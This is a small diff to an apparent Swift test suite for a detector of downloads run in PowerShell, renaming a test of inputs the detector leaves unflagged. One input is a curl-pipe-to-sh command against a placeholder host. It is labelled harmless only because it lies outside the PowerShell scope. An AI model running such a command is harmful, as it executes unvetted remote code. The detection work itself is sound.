@@ -29,7 +29,7 @@ struct DownloadIntoPowerShellTests {
     "curl https://fix.example/a | sh",
     "Invoke-RestMethod https://api.example.com/items | Select-Object name",
   ])
-  func `downloads that are not run are nothing`(text: String) {
+  func `downloads that are not run are harmless`(text: String) {
     #expect(DownloadIntoPowerShell.severity(of: text) == nil)
   }
 }
